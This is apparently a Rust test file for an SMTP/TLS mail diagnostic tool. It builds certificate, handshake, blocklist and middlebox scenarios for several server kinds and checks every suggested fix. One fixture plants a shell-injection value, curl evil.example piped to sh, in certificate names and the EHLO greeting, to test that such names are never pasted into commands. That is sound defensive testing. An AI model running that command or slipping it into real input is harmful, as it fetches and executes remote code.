//! Every rule under every server kind: a sweep of hand-built observations, routes and endpoint
//! groups that reaches each fix builder, so what must hold of every fix (text to show, no
//! empty command, the right shell, nothing unvetted pasted, keys that mean text) is checked
//! on all of them at once.

use std::net::{IpAddr, SocketAddr};

use rustls::pki_types::pem::PemObject as _;
use time::macros::datetime;

use super::tests::{NOW, World, assert_fix_is_usable, observed, reply, world};
use super::{cross, dns};
use crate::diagnose::fix::Family;
use crate::diagnose::*;
use crate::dns::route::{Family as AddressFamily, Lookup, MailHost, Route};
use crate::dns::{DnsError, HostAnswer, Mx};
use crate::evidence::Evidence;
use crate::model::{FailureKind, Observation, Phase, PhaseFailure, TlsMode, Via};
use crate::scripted::pki::self_signed;
use crate::scripted::{Ca, LeafSpec};
use crate::smtp::{Capabilities, Reply};
use crate::target::Host;
use crate::tls::{HandshakeError, HandshakeFailure, TlsVersion, TrustStore};

/// A server kind, as the banner and greeting that reveal it.
#[derive(Clone, Copy)]
struct Kind {
    name: &'static str,
    greeting: &'static str,
    banner: &'static str,
}

const KINDS: [Kind; 8] = [
    Kind {
        name: "exchange",
        greeting: "exch01.contoso.test",
        banner: "exch01.contoso.test Microsoft ESMTP MAIL Service ready",
    },
    Kind {
        name: "eop",
        greeting: "BN8NAM11FT012.mail.protection.outlook.com",
        banner: "BN8NAM11FT012.mail.protection.outlook.com Microsoft ESMTP MAIL Service ready",
    },
    Kind {
        name: "postfix",
        greeting: "mail.contoso.test",
        banner: "mail.contoso.test ESMTP Postfix",
    },
    Kind {
        name: "unknown",
        greeting: "mail.contoso.test",
        banner: "mail.contoso.test ESMTP",
    },
    Kind {
        name: "exim",
        greeting: "postfix01.contoso.test",
        banner: "postfix01.contoso.test ESMTP Exim 4.96 Sun, 22 Nov 2026 12:00:00 +0000",
    },
    // A gateway that takes the organisation's certificate, and a cloud service that does not.
    Kind {
        name: "barracuda",
        greeting: "mail.contoso.test",
        banner: "mail.contoso.test ESMTP (b3ef4f0fbe38dde2bb76ad2a6bf96f7b)",
    },
    Kind {
        name: "proofpoint",
        greeting: "mx0b-00000d03.pphosted.com",
        banner: "mx0b-00000d03.pphosted.com ESMTP mfa-m0214089",
    },
    // A mail server written for in prose.
    Kind {
        name: "sendmail",
        greeting: "mail.contoso.test",
        banner: "mail.contoso.test ESMTP Sendmail 8.17.1/8.17.1; Sun, 22 Nov 2026 12:00:00 +0000",
    },
];

const HOST: &str = "mail.contoso.test";

/// An observation of `host` by a server of kind `k`, which saw us as 203.0.113.7.
fn as_kind(k: Kind, host: &str, chain: Vec<Vec<u8>>, trust: &TrustStore) -> Observation {
    let mut obs = observed(host, k.greeting, chain, trust);
    obs.banner = Some(reply(220, &[k.banner]));
    keywords(obs, &["PIPELINING", "STARTTLS"])
}

/// The same server, answering EHLO with `words` after the greeting line.
fn keywords(mut obs: Observation, words: &[&str]) -> Observation {
    let greeting = obs
        .capabilities
        .as_ref()
        .map_or("x", |c| c.greeting_name.as_str())
        .to_string();
    let first = format!("{greeting} Hello [203.0.113.7]");
    let mut lines = vec![first.as_str()];
    lines.extend(words);
    let ehlo = reply(250, &lines);
    obs.capabilities = Some(Capabilities::parse(&ehlo));
    obs.ehlo = Some(ehlo);
    obs
}

fn without_tls(mut obs: Observation) -> Observation {
    obs.tls = None;
    obs.trust = None;
    obs.chain = Vec::new();
    obs.ehlo_tls = None;
    obs
}

fn greeting(mut obs: Observation, name: &str) -> Observation {
    if let Some(c) = obs.capabilities.as_mut() {
        c.greeting_name = name.into();
    }
    obs
}

fn pem(bytes: &[u8]) -> Vec<u8> {
    rustls::pki_types::CertificateDer::from_pem_slice(bytes)
        .unwrap()
        .to_vec()
}

/// The endpoint scenarios of one server kind, collected.
struct Endpoints<'w> {
    w: &'w World,
    k: Kind,
    out: Vec<(String, Observation, Policy)>,
}

impl Endpoints<'_> {
    fn add(&mut self, name: &str, obs: Observation) {
        self.add_with(name, obs, Policy::default());
    }

    fn add_with(&mut self, name: &str, obs: Observation, policy: Policy) {
        self.out
            .push((format!("{}/{name}", self.k.name), obs, policy));
    }

    /// The server of this kind presenting `chain` for [`HOST`].
    fn serving(&self, chain: Vec<Vec<u8>>) -> Observation {
        as_kind(self.k, HOST, chain, &self.w.trust)
    }

    /// A healthy chain for [`HOST`], valid `days` more days.
    fn good(&self, days: i64) -> Vec<Vec<u8>> {
        self.w.chain(&LeafSpec::valid_for(HOST, NOW, days), true)
    }

    fn failed(&self, phase: Phase, kind: FailureKind, r: Option<Reply>) -> Observation {
        let mut obs = without_tls(self.serving(self.good(90)));
        obs.failure = Some(PhaseFailure {
            phase,
            kind,
            message: format!("{} {kind:?}", phase.name()),
            reply: r,
            overall_deadline: false,
        });
        obs
    }
}

fn expecting(names: &[&str]) -> Policy {
    Policy {
        expected_names: names.iter().map(|n| n.to_string()).collect(),
        ..Policy::default()
    }
}

fn with_ca_file() -> Policy {
    Policy {
        extra_roots: true,
        ..Policy::default()
    }
}

/// Dates, trust and chains.
fn certificates(e: &mut Endpoints<'_>) {
    e.add("healthy", e.serving(e.good(90)));
    e.add("expiring-warn", e.serving(e.good(20)));
    e.add("expiring-fail", e.serving(e.good(3)));
    let mut spec = LeafSpec::valid_for(HOST, NOW, 0);
    spec.not_before = datetime!(2026-08-21 12:00 UTC);
    spec.not_after = datetime!(2026-11-19 11:00 UTC);
    e.add("expired", e.serving(e.w.chain(&spec, true)));
    // On a port no stock service listens on, fixes look the service up instead of naming it.
    let mut odd_port = e.serving(e.w.chain(&spec, true));
    odd_port.endpoint.address.set_port(2526);
    e.add("expired-2526", odd_port);
    let mut spec = LeafSpec::valid_for(HOST, NOW, 90);
    spec.not_before = NOW + time::Duration::days(2);
    e.add("not-yet-valid", e.serving(e.w.chain(&spec, true)));
    // An intermediate that expired: the path is not current, so it is blamed.
    let old =
        e.w.root
            .intermediate("Old Issuing CA", NOW - time::Duration::days(4000))
            .unwrap();
    let leaf = old.leaf(&LeafSpec::valid_for(HOST, NOW, 90)).unwrap();
    let chain = vec![leaf.chain[0].to_vec(), old.der().to_vec()];
    e.add("expired-intermediate", e.serving(chain));
    let selfie = self_signed(&LeafSpec {
        names: vec!["EXCH02".into()],
        ..LeafSpec::valid_for("EXCH02", NOW, 900)
    })
    .unwrap();
    e.add("self-signed", e.serving(vec![selfie.chain[0].to_vec()]));
    let pinned = TrustStore::from_certs([selfie.chain[0].clone()], None);
    let obs = as_kind(e.k, HOST, vec![selfie.chain[0].to_vec()], &pinned);
    e.add_with("self-signed-pinned", obs, with_ca_file());
    e.add("leaf-only", e.serving(e.good(90)[..1].to_vec()));
    let unrelated = e.w.root.intermediate("Unrelated Issuing CA", NOW).unwrap();
    let mut wrong = e.good(90);
    wrong[1] = unrelated.der().to_vec();
    e.add("wrong-intermediate", e.serving(wrong));
    let nobody = TrustStore::from_certs([Ca::root("Someone Else", NOW).unwrap().der()], None);
    let mut private = e.good(90);
    private.push(e.w.root.der().to_vec());
    e.add("private-root", as_kind(e.k, HOST, private.clone(), &nobody));
    let obs = as_kind(e.k, HOST, private, &nobody);
    e.add_with("private-root-ca-file", obs, with_ca_file());
    e.add("unknown-top", as_kind(e.k, HOST, e.good(90), &nobody));
    e.add("unparsable", e.serving(vec![vec![0x30, 0x03, 1, 2, 3]]));
    let mut implicit = e.serving(e.good(90));
    implicit.endpoint.tls_mode = TlsMode::Implicit;
    implicit.endpoint.address.set_port(465);
    e.add("implicit-healthy", implicit);
}

/// Names, key and signature strength.
fn names_and_strength(e: &mut Endpoints<'_>) {
    let other =
        e.w.chain(&LeafSpec::valid_for("other.contoso.test", NOW, 90), true);
    e.add("name-mismatch", e.serving(other));
    let cn_only = e.w.chain(
        &LeafSpec {
            names: vec![],
            ..LeafSpec::valid_for(HOST, NOW, 90)
        },
        true,
    );
    e.add("cn-only", e.serving(cn_only.clone()));
    e.add_with("expected-cn-only", e.serving(cn_only), expecting(&[HOST]));
    e.add(
        "ip-target",
        as_kind(e.k, "192.0.2.10", e.good(90), &e.w.trust),
    );
    let wanted = expecting(&["hybrid.contoso.test", "*.contoso.test"]);
    e.add_with("expected-names", e.serving(e.good(90)), wanted);
    let selfie = self_signed(&LeafSpec::valid_for("EXCH02", NOW, 900)).unwrap();
    let untrusted = vec![selfie.chain[0].to_vec()];
    let wanted = expecting(&["hybrid.contoso.test"]);
    e.add_with("expected-untrusted", e.serving(untrusted.clone()), wanted);
    let corp = "exch01.corp.contoso.local";
    e.add("ehlo-mismatch", greeting(e.serving(e.good(90)), corp));
    e.add(
        "ehlo-mismatch-untrusted",
        greeting(e.serving(untrusted), corp),
    );
    let weak_key = pem(include_bytes!("../../../tests/data/weak-key-leaf.pem"));
    let weak_ca = pem(include_bytes!("../../../tests/data/weak-ca-rsa1024.pem"));
    e.add("weak-key", e.serving(vec![weak_key, weak_ca]));
    let sha1 = pem(include_bytes!("../../../tests/data/sha1-leaf.pem"));
    e.add("weak-signature", e.serving(vec![sha1]));
    let client = e.w.chain(
        &LeafSpec {
            client_auth_only: true,
            ..LeafSpec::valid_for(HOST, NOW, 90)
        },
        true,
    );
    e.add("no-server-auth", e.serving(client));
    // Names an attacker controls (certificate names, the greeting) never reach a command
    // unvetted.
    let evil = "x';curl evil.example|sh;'.test";
    let evil_chain = e.w.chain(
        &LeafSpec {
            names: vec![evil.into(), HOST.into()],
            ..LeafSpec::valid_for(evil, NOW, 90)
        },
        true,
    );
    let obs = as_kind(e.k, "other.contoso.test", evil_chain.clone(), &e.w.trust);
    let wanted = expecting(&["hybrid.contoso.test"]);
    e.add_with("evil-names", greeting(obs, evil), wanted);
    let obs = as_kind(e.k, "192.0.2.10", evil_chain, &e.w.trust);
    e.add("evil-names-ip", obs);
}

/// Each phase that can fail, and how.
fn failures(e: &mut Endpoints<'_>) {
    use FailureKind as K;
    e.add("refused-25", e.failed(Phase::Connect, K::Refused, None));
    let mut refused587 = e.failed(Phase::Connect, K::Refused, None);
    refused587.endpoint.address.set_port(587);
    e.add("refused-587", refused587);
    e.add(
        "connect-timeout",
        e.failed(Phase::Connect, K::Timeout, None),
    );
    e.add(
        "unreachable",
        e.failed(Phase::Connect, K::Unreachable, None),
    );
    let mut deadline = e.failed(Phase::Ehlo, K::Timeout, None);
    if let Some(f) = deadline.failure.as_mut() {
        f.overall_deadline = true;
    }
    e.add("deadline", deadline);
    e.add("banner-timeout", e.failed(Phase::Banner, K::Timeout, None));
    for (name, code, text) in [
        (
            "starttls-454",
            454,
            "4.7.0 TLS not available due to local problem",
        ),
        ("starttls-502", 502, "5.5.2 Error: command not recognized"),
        ("starttls-554", 554, "5.7.0 no"),
    ] {
        let r = reply(code, &[text]);
        let kind = if code < 500 {
            K::TemporaryReply
        } else {
            K::Rejected
        };
        let mut obs = e.failed(Phase::Starttls, kind, Some(r.clone()));
        obs.starttls_reply = Some(r);
        e.add(name, obs);
    }
    let r = reply(421, &["4.3.2 Service shutting down"]);
    e.add(
        "banner-421",
        e.failed(Phase::Banner, K::TemporaryReply, Some(r)),
    );
    let r = reply(554, &["5.7.1 listed at zen.spamhaus.org"]);
    e.add("banner-554", e.failed(Phase::Banner, K::Rejected, Some(r)));
    let r = reply(501, &["5.5.4 Invalid EHLO argument"]);
    e.add("ehlo-501", e.failed(Phase::Ehlo, K::Rejected, Some(r)));
    for kind in [
        HandshakeFailure::ProtocolVersion,
        HandshakeFailure::NoSharedCipher,
        HandshakeFailure::WeakOrBadKey,
        HandshakeFailure::Closed,
        HandshakeFailure::Timeout,
        HandshakeFailure::NotTls,
        HandshakeFailure::Alert,
        HandshakeFailure::MessageTooLarge,
        HandshakeFailure::ProtocolViolation,
        HandshakeFailure::ClientCertRequired,
        HandshakeFailure::Other,
    ] {
        let mut obs = e.failed(Phase::Handshake, K::Handshake, None);
        obs.handshake_error = Some(HandshakeError {
            kind,
            reason: format!("{kind:?}"),
            detail: "library says no".into(),
        });
        let mut odd_port = obs.clone();
        odd_port.endpoint.address.set_port(2539);
        e.add(&format!("handshake-{kind:?}-2539"), odd_port);
        e.add(&format!("handshake-{kind:?}"), obs);
    }
    let unclassified = e.failed(Phase::Handshake, K::Handshake, None);
    e.add("handshake-unclassified", unclassified);
    e.add("ehlo-timeout", e.failed(Phase::Ehlo, K::Timeout, None));
    e.add("ehlo-closed", e.failed(Phase::Ehlo, K::Closed, None));
    e.add("protocol", e.failed(Phase::Banner, K::Protocol, None));
    e.add("tls-session", e.failed(Phase::TlsSession, K::Closed, None));
    honest(e);
}

/// The honest states: rate limits, a late greeting, a port that speaks the other TLS mode.
fn honest(e: &mut Endpoints<'_>) {
    use FailureKind as K;
    for (name, code, text) in [
        (
            "rate-limited",
            421,
            "4.7.0 mx Error: too many connections from 192.0.2.1",
        ),
        (
            "server-busy",
            451,
            "4.7.500 Server busy. Please try again later",
        ),
    ] {
        let r = reply(code, &[text]);
        let mut obs = e.failed(Phase::Banner, K::TemporaryReply, Some(r.clone()));
        obs.banner = Some(r);
        e.add(name, obs);
    }
    let mut cut = e.failed(Phase::Ehlo, K::Closed, None);
    cut.ehlo = None;
    cut.capabilities = None;
    e.add("closed-after-banner", cut);
    let mut late = e.serving(e.good(90));
    late.waits.banner = Some(std::time::Duration::from_secs(4));
    e.add("tarpit", late);
    let mut late = e.failed(Phase::Starttls, K::Timeout, None);
    late.waits.ehlo = Some(std::time::Duration::from_secs(5));
    e.add("tarpit-then-timeout", late);
    for (port, probed, speaks, phase) in [
        (2465, TlsMode::Starttls, TlsMode::Implicit, Phase::Banner),
        (25, TlsMode::Starttls, TlsMode::Implicit, Phase::Banner),
        (2587, TlsMode::Implicit, TlsMode::Starttls, Phase::Handshake),
        (465, TlsMode::Implicit, TlsMode::Starttls, Phase::Handshake),
    ] {
        let kind = if phase == Phase::Banner {
            K::Timeout
        } else {
            K::Handshake
        };
        let mut obs = e.failed(phase, kind, None);
        obs.endpoint.address.set_port(port);
        obs.endpoint.tls_mode = probed;
        obs.mode_check = Some(crate::model::ModeCheck {
            tried: speaks,
            speaks: true,
            detail: "seen".into(),
            handshake_failed: false,
        });
        e.add(&format!("mode-{port}"), obs);
    }
}

/// STARTTLS not offered (plainly, behind a masking firewall, without the egress address),
/// EHLO rewritten, bytes injected.
fn session(e: &mut Endpoints<'_>) {
    let plain = without_tls(e.serving(e.good(90)));
    let plain = || plain.clone();
    let mut odd_port = keywords(plain(), &["PIPELINING", "SIZE 1000"]);
    odd_port.endpoint.address.set_port(2529);
    e.add("not-offered-2529", odd_port);
    e.add(
        "not-offered",
        keywords(plain(), &["PIPELINING", "SIZE 1000"]),
    );
    e.add(
        "not-offered-masked",
        keywords(plain(), &["PIPELINING", "XXXXXXXA"]),
    );
    let mut banner_masked = keywords(plain(), &["PIPELINING"]);
    banner_masked.banner = Some(reply(220, &["*************************"]));
    e.add("not-offered-banner-masked", banner_masked);
    let mut no_ip = keywords(plain(), &["PIPELINING"]);
    if let Some(c) = no_ip.capabilities.as_mut() {
        c.greeting_text = "Hello".into();
    }
    e.add("not-offered-no-egress-ip", no_ip);
    let mut no_esmtp = plain();
    no_esmtp.ehlo = Some(reply(500, &["5.5.1 Command unrecognized"]));
    no_esmtp.helo = Some(reply(250, &[e.k.greeting]));
    no_esmtp.capabilities = None;
    e.add("no-esmtp", no_esmtp);
    let mut injected = e.serving(e.good(90));
    injected.injected = b"250 injected\r\n".to_vec();
    e.add("injection", injected);
}

/// Middlebox fingerprints: masks, EHLO downgraded, an appliance's certificate, irregular
/// replies (STARTTLS mangled is `failures/starttls-502`).
fn middleboxes(e: &mut Endpoints<'_>) {
    let plain = without_tls(e.serving(e.good(90)));
    // Greeting as the host: with its banner masked the server's kind is unknown, and the
    // generic greeting fix's key holds the greeting name that its text leaves out.
    let mut masked_working = greeting(e.serving(e.good(90)), HOST);
    masked_working.banner = Some(reply(220, &["*****************0*0**2****"]));
    e.add("banner-masked-tls-works", masked_working);
    let works = e.serving(e.good(90));
    e.add(
        "keywords-masked-tls-works",
        keywords(works, &["XXXXXXXB", "STARTTLS"]),
    );
    e.add("ehlo-downgraded", keywords(plain.clone(), &[]));
    let barracuda = crate::scripted::pki::self_signed_of(
        &LeafSpec::valid_for("barracuda.local", NOW, 3000),
        "Barracuda Networks",
    )
    .unwrap();
    e.add(
        "appliance-self-signed",
        e.serving(vec![barracuda.chain[0].to_vec()]),
    );
    let forti = Ca::root_of("Fortinet", "Fortinet_CA_SSL", NOW).unwrap();
    let leaf = forti.leaf(&LeafSpec::valid_for(HOST, NOW, 200)).unwrap();
    let chain = vec![leaf.chain[0].to_vec(), forti.der().to_vec()];
    e.add("inspection-ca", e.serving(chain.clone()));
    let ours = TrustStore::from_certs([forti.der()], None);
    e.add("inspection-ca-trusted", as_kind(e.k, HOST, chain, &ours));
    let mut irregular = e.serving(e.good(90));
    if let Some(b) = irregular.banner.as_mut() {
        b.lines.iter_mut().for_each(|l| l.bare_lf = true);
    }
    e.add("irregular-replies", irregular);
}

/// EHLO answered with a bare `250` below a greeting that claims no ESMTP.
fn bare_ehlo(obs: Observation) -> Observation {
    let mut obs = keywords(without_tls(obs), &[]);
    obs.banner = Some(reply(220, &["mx1.contoso.test ready"]));
    obs
}

/// What the blocklists said about the address the server saw (every answer, every removal
/// procedure, every reason to skip), with and without STARTTLS; Microsoft's own ban.
fn blocklists(e: &mut Endpoints<'_>) {
    use crate::dns::dnsbl::decode;
    use crate::model::{BlocklistCheck, CheckReason, EgressSource, ListAnswer, ListStatus};
    let ip: IpAddr = "81.2.69.142".parse().unwrap();
    let answer = |zone: &str, status: ListStatus| ListAnswer {
        zone: zone.into(),
        query: crate::dns::dnsbl::query_name(ip, zone),
        status,
    };
    let codes = |zone: &str, c: &[&str]| {
        let c: Vec<std::net::Ipv4Addr> = c.iter().map(|x| x.parse().unwrap()).collect();
        answer(zone, decode(zone, &c))
    };
    let check = |reason, outcome| BlocklistCheck {
        address: Some(ip),
        source: EgressSource::Greeting,
        reason,
        resolver: "the resolver 192.0.2.53".into(),
        outcome,
        flag_ignored: None,
    };
    let zen = "zen.spamhaus.org";
    let all_listed = vec![
        codes(
            zen,
            &[
                "127.0.0.2",
                "127.0.0.3",
                "127.0.0.4",
                "127.0.0.9",
                "127.0.0.10",
                "127.0.0.11",
                "127.0.0.8",
            ],
        ),
        codes("b.barracudacentral.org", &["127.0.0.2"]),
        codes("bl.spamcop.net", &["127.0.0.2"]),
        codes("dnsbl.example.net", &["127.0.0.3"]),
    ];
    let odd = vec![
        codes(zen, &["127.255.255.254"]),
        codes("b.barracudacentral.org", &["127.255.255.255"]),
        codes("bl.spamcop.net", &["198.51.100.80"]),
        answer("dnsbl.example.net", ListStatus::Failed("timed out".into())),
        answer("v4only.example.net", ListStatus::Unsupported),
    ];
    let refused_all = vec![codes(zen, &["127.255.255.252"])];
    let clean = vec![
        answer(zen, ListStatus::NotListed),
        codes("bl.spamcop.net", &["127.255.255.254"]),
    ];
    let failed = vec![answer(zen, ListStatus::Failed("timed out".into()))];
    let plain = keywords(
        without_tls(e.serving(e.good(90))),
        &["PIPELINING", "SIZE 1000"],
    );
    for (name, answers) in [
        ("listed", all_listed),
        ("odd-answers", odd),
        ("refused-all", refused_all),
        ("clean", clean),
        ("failed", failed),
    ] {
        let mut withheld = plain.clone();
        withheld.blocklist = Some(check(CheckReason::StarttlsWithheld, Ok(answers.clone())));
        e.add(&format!("dnsbl-withheld-{name}"), withheld);
        let mut asked = e.serving(e.good(90));
        asked.blocklist = Some(check(CheckReason::Asked, Ok(answers)));
        e.add(&format!("dnsbl-asked-{name}"), asked);
    }
    blocklist_skips_and_bans(
        e,
        &plain,
        check(CheckReason::StarttlsWithheld, Ok(Vec::new())),
    );
}

/// Every reason a lookup is skipped, and Microsoft's own ban at connect.
fn blocklist_skips_and_bans(
    e: &mut Endpoints<'_>,
    plain: &Observation,
    template: crate::model::BlocklistCheck,
) {
    use crate::model::{EgressSource, Skipped};
    for why in [
        Skipped::NoAddress,
        Skipped::Loopback,
        Skipped::Private,
        Skipped::LinkLocal,
        Skipped::Documentation,
        Skipped::NotUnicast,
        Skipped::Deadline,
    ] {
        let mut obs = plain.clone();
        let mut c = template.clone();
        c.outcome = Err(why);
        if why == Skipped::NoAddress {
            c.address = None;
            c.source = EgressSource::Flag;
        }
        obs.blocklist = Some(c);
        e.add(&format!("dnsbl-skipped-{why:?}"), obs);
    }
    let r = reply(
        550,
        &["5.7.606 Access denied, banned sending IP [81.2.69.142]."],
    );
    let mut banned = e.failed(Phase::Banner, FailureKind::Rejected, Some(r.clone()));
    banned.banner = Some(r);
    e.add("microsoft-banned", banned);
}

fn endpoint_scenarios(w: &World, k: Kind) -> Vec<(String, Observation, Policy)> {
    let mut e = Endpoints {
        w,
        k,
        out: Vec::new(),
    };
    certificates(&mut e);
    names_and_strength(&mut e);
    failures(&mut e);
    session(&mut e);
    follow_ups(&mut e);
    middleboxes(&mut e);
    blocklists(&mut e);
    e.out
}

/// What the follow-up connections found: the version a legacy-only server chose (on the
/// stock port and on one whose service is looked up), a TLS 1.2 answer with an old suite, a
/// refused second hello; and each answer of `--check-required`, with and without
/// `--expect-required`.
fn follow_ups(e: &mut Endpoints<'_>) {
    use crate::model::LegacyTls;
    use crate::tls::legacy::ServerAnswer;
    let answers = [
        (
            "legacy-tls10",
            LegacyTls::Answered(ServerAnswer::Hello {
                version: 0x0301,
                cipher: 0xc014,
            }),
        ),
        (
            "legacy-tls11",
            LegacyTls::Answered(ServerAnswer::Hello {
                version: 0x0302,
                cipher: 0x0035,
            }),
        ),
        (
            "legacy-tls12-old-suite",
            LegacyTls::Answered(ServerAnswer::Hello {
                version: 0x0303,
                cipher: 0x002f,
            }),
        ),
        (
            "legacy-tls12-modern",
            LegacyTls::Answered(ServerAnswer::Hello {
                version: 0x0303,
                cipher: 0xc02f,
            }),
        ),
        (
            "legacy-alert",
            LegacyTls::Answered(ServerAnswer::Alert {
                level: 2,
                description: 40,
            }),
        ),
        ("legacy-closed", LegacyTls::Closed),
    ];
    for (name, answer) in answers {
        legacy_answer(e, name, answer);
    }
    required_checks(e);
}

/// A handshake refused on the protocol version, then `answer` to the hand-built hello, on
/// port 25 and on a port of no fixed meaning.
fn legacy_answer(e: &mut Endpoints<'_>, name: &str, answer: crate::model::LegacyTls) {
    let mut obs = e.failed(Phase::Handshake, FailureKind::Handshake, None);
    obs.handshake_error = Some(HandshakeError {
        kind: HandshakeFailure::ProtocolVersion,
        reason: "older than 1.2".into(),
        detail: "received fatal alert: ProtocolVersion".into(),
    });
    obs.legacy_tls = Some(answer);
    let mut odd_port = obs.clone();
    odd_port.endpoint.address.set_port(2539);
    e.add(&format!("{name}-2539"), odd_port);
    e.add(name, obs);
}

/// Each reply to `MAIL FROM:<>` of --check-required, with and without --expect-required.
fn required_checks(e: &mut Endpoints<'_>) {
    use crate::model::RequiredCheck;
    let replies = [
        (
            "required",
            Some(reply(530, &["5.7.0 Must issue a STARTTLS command first"])),
        ),
        ("not-required", Some(reply(250, &["2.1.0 Ok"]))),
        (
            "required-unknown",
            Some(reply(550, &["5.7.1 Sender refused"])),
        ),
        ("required-no-reply", None),
    ];
    for (name, r) in replies {
        let mut obs = e.serving(e.good(90));
        obs.tls_required = Some(RequiredCheck {
            problem: r
                .is_none()
                .then(|| "EHLO refused: 500 5.5.1 Command unrecognized".into()),
            mail_reply: r,
        });
        let expect = Policy {
            expect_required: true,
            ..Policy::default()
        };
        let mut odd_port = obs.clone();
        odd_port.endpoint.address.set_port(2540);
        e.add_with(&format!("{name}-expected-2540"), odd_port, expect.clone());
        e.add_with(&format!("{name}-expected"), obs.clone(), expect);
        e.add(name, obs);
    }
    // Required where STARTTLS is not offered (a firewall masks it): every sender refused.
    let mut masked = keywords(
        without_tls(e.serving(e.good(90))),
        &["PIPELINING", "XXXXXXXA", "8BITMIME"],
    );
    masked.tls_required = Some(RequiredCheck {
        problem: None,
        mail_reply: Some(reply(530, &["5.7.0 Must issue a STARTTLS command first"])),
    });
    e.add("required-unreachable", masked);
}

/// The endpoints of `mx1.contoso.test` (and one of mx2), of one server kind, as the
/// cross-endpoint rules compare them.
struct Nodes<'w> {
    w: &'w World,
    k: Kind,
    good: Vec<Vec<u8>>,
    selfie: Vec<Vec<u8>>,
}

impl Nodes<'_> {
    const HOST: &'static str = "mx1.contoso.test";

    /// The node 192.0.2.`last`, port `port`, presenting `chain`.
    fn at(&self, chain: &[Vec<u8>], last: u8, port: u16) -> Observation {
        let mut obs = as_kind(self.k, Self::HOST, chain.to_vec(), &self.w.trust);
        obs.endpoint.address = SocketAddr::from(([192, 0, 2, last], port));
        obs.endpoint.via = Some(Via {
            domain: DOMAIN.into(),
            preference: 10,
        });
        obs
    }

    fn good(&self, last: u8, port: u16) -> Observation {
        self.at(&self.good, last, port)
    }

    fn selfie(&self, last: u8, port: u16) -> Observation {
        self.at(&self.selfie, last, port)
    }
}

fn no_starttls(obs: Observation) -> Observation {
    keywords(without_tls(obs), &["PIPELINING", "SIZE 1000"])
}

fn tls12(mut obs: Observation) -> Observation {
    if let Some(t) = obs.tls.as_mut() {
        t.version = TlsVersion::Tls12;
    }
    obs
}

/// The same endpoint, as MX 20 `mx2.contoso.test`.
fn mx2(mut obs: Observation) -> Observation {
    obs.endpoint.host = Host::Name("mx2.contoso.test".into());
    if let Some(v) = obs.endpoint.via.as_mut() {
        v.preference = 20;
    }
    obs
}

/// The same endpoint, its connection attempt timed out.
fn dropped(mut obs: Observation) -> Observation {
    obs = without_tls(obs);
    obs.banner = None;
    obs.ehlo = None;
    obs.capabilities = None;
    obs.local_addr = None;
    obs.failure = Some(PhaseFailure {
        phase: Phase::Connect,
        kind: FailureKind::Timeout,
        message: "no answer within 10.0s".into(),
        reply: None,
        overall_deadline: false,
    });
    obs
}

/// Endpoint groups for the cross-endpoint rules: nodes of one MX host, MX hosts of one
/// domain, ports of one address.
fn cross_scenarios(w: &World, k: Kind) -> Vec<(String, Vec<Evidence>)> {
    let spec = |days| LeafSpec::valid_for(Nodes::HOST, NOW, days);
    let selfie = self_signed(&LeafSpec::valid_for("EXCH02", NOW, 900)).unwrap();
    let n = Nodes {
        w,
        k,
        good: w.chain(&spec(90), true),
        selfie: vec![selfie.chain[0].to_vec()],
    };
    let other = w.chain(&spec(80), true);
    let leaf_only = w.chain(&spec(90), false);
    let groups: Vec<(&str, Vec<Observation>)> = vec![
        ("cert-differs", vec![n.good(1, 25), n.selfie(2, 25)]),
        (
            "cert-differs-no-good",
            vec![n.selfie(1, 25), n.selfie(2, 25), n.at(&leaf_only, 3, 25)],
        ),
        ("certs-benign", vec![n.good(1, 25), n.at(&other, 2, 25)]),
        (
            "starttls-differs",
            vec![n.good(1, 25), n.good(2, 25), no_starttls(n.good(3, 25))],
        ),
        (
            "starttls-mostly-missing",
            vec![
                n.good(1, 25),
                no_starttls(n.good(2, 25)),
                no_starttls(n.good(3, 25)),
            ],
        ),
        ("version-differs", vec![n.good(1, 25), tls12(n.good(2, 25))]),
        (
            "port-25-blocked-here",
            vec![dropped(n.good(1, 25)), n.good(1, 587)],
        ),
        (
            "only-port-25-dropped",
            vec![dropped(n.good(1, 25)), dropped(n.good(2, 25))],
        ),
        (
            "ports-differ",
            vec![no_starttls(n.good(1, 25)), n.good(1, 587)],
        ),
        (
            "ports-differ-two-closed-untrusted",
            vec![
                no_starttls(n.good(1, 25)),
                no_starttls(n.good(1, 2525)),
                n.selfie(1, 587),
                n.selfie(1, 465),
            ],
        ),
        (
            "domain-starttls",
            vec![n.good(1, 25), mx2(no_starttls(n.good(5, 25)))],
        ),
        (
            "ehlo-downgraded-elsewhere",
            vec![bare_ehlo(n.good(1, 25)), n.good(1, 587)],
        ),
        (
            "domain-version",
            vec![n.good(1, 25), mx2(tls12(n.good(5, 25)))],
        ),
    ];
    groups
        .into_iter()
        .map(|(name, g)| {
            let evidence = g.into_iter().map(|o| Evidence::derive(o, NOW)).collect();
            (format!("{}/cross/{name}", k.name), evidence)
        })
        .collect()
}

pub(super) fn mail_host(
    name: &str,
    preference: Option<u16>,
    a: Result<HostAnswer, DnsError>,
) -> MailHost {
    let ip = name.parse::<IpAddr>().ok();
    MailHost {
        host: ip.map_or_else(|| Host::Name(name.into()), Host::Ip),
        preference,
        literal: ip.is_some(),
        addresses: a.as_ref().map(|a| a.addrs.clone()).unwrap_or_default(),
        answer: a,
        overridden: false,
        filtered: Vec::new(),
        cut: Vec::new(),
    }
}

pub(super) fn answer(addr: &str, alias_of: Option<&str>) -> Result<HostAnswer, DnsError> {
    Ok(HostAnswer {
        addrs: vec![addr.parse().unwrap()],
        alias_of: alias_of.map(str::to_string),
        unusable: Vec::new(),
    })
}

pub(super) fn route(name: &str, lookup: Lookup, hosts: Vec<MailHost>) -> Route {
    Route {
        name: name.into(),
        lookup,
        hosts,
        ports: vec![25],
        mx_cut: Vec::new(),
        null_mx_mixed: false,
        family: AddressFamily::Any,
    }
}

const DOMAIN: &str = "contoso.test";

fn nx(n: &str) -> DnsError {
    DnsError::NxDomain { name: n.into() }
}

fn resolver_failed(n: &str) -> DnsError {
    DnsError::Failed {
        name: n.into(),
        reason: "timed out".into(),
    }
}

pub(super) fn no_address(n: &str) -> DnsError {
    DnsError::NoAddress { name: n.into() }
}

fn mx1() -> MailHost {
    mail_host("mx1.contoso.test", Some(10), answer("192.0.2.1", None))
}

/// What the MX lookup of a domain might say.
fn mx_routes() -> Vec<(&'static str, Route)> {
    let d = DOMAIN;
    let mut mixed = route(d, Lookup::Mx, vec![mx1()]);
    mixed.null_mx_mixed = true;
    let mut capped = route(d, Lookup::Mx, vec![mx1()]);
    capped.mx_cut = vec![Mx {
        preference: 20,
        exchange: "mx2.contoso.test".into(),
    }];
    capped.hosts[0].cut = vec!["192.0.2.2".parse().unwrap()];
